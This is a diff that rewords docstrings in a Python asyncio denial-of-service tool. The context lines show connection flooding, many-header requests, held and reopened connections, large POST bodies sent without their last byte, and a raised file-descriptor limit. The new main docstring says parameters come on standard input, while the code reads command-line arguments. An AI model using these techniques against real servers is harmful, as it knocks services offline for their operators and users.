@@ -62,7 +62,7 @@ class Target:
 
 
 async def pour(target: Target, begin: bytes, piece: bytes) -> None:
-    """Send on one connection as fast as it is taken; come back where it is cut off."""
+    """Send on one connection as fast as the server reads; reconnect when it is closed."""
     sent = 0
     while target.goes_on and sent < MOST_BYTES:
         with contextlib.suppress(OSError):
@@ -85,7 +85,7 @@ async def many_headers(target: Target) -> None:
 
 
 async def crowd(target: Target, piece: bytes) -> None:
-    """Hold many connections, and open those anew that are cut off."""
+    """Hold many connections, and reopen those that are closed."""
 
     async def hold() -> None:
         while target.goes_on:
@@ -127,7 +127,7 @@ async def abandoned_checks(target: Target) -> None:
 
 
 async def held_bodies(target: Target) -> None:
-    """As many large bodies as are taken, each but for its last byte."""
+    """As many large bodies as are accepted, each without its last byte."""
     head = f"POST /api/records/check HTTP/1.1\r\nHost: {target.host}\r\nContent-Length: 8000001\r\n"
     first = f"{head}Content-Type: application/x-ndjson\r\n\r\n".encode()
 
@@ -244,7 +244,7 @@ WAYS: dict[str, Callable[[Target], Coroutine[Any, Any, None]]] = {
 
 
 def main() -> None:
-    """What the attack needs to know comes in by standard input, as JSON."""
+    """Run one attack; its parameters come as JSON on standard input."""
     name, host, port, seconds = sys.argv[1:]
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
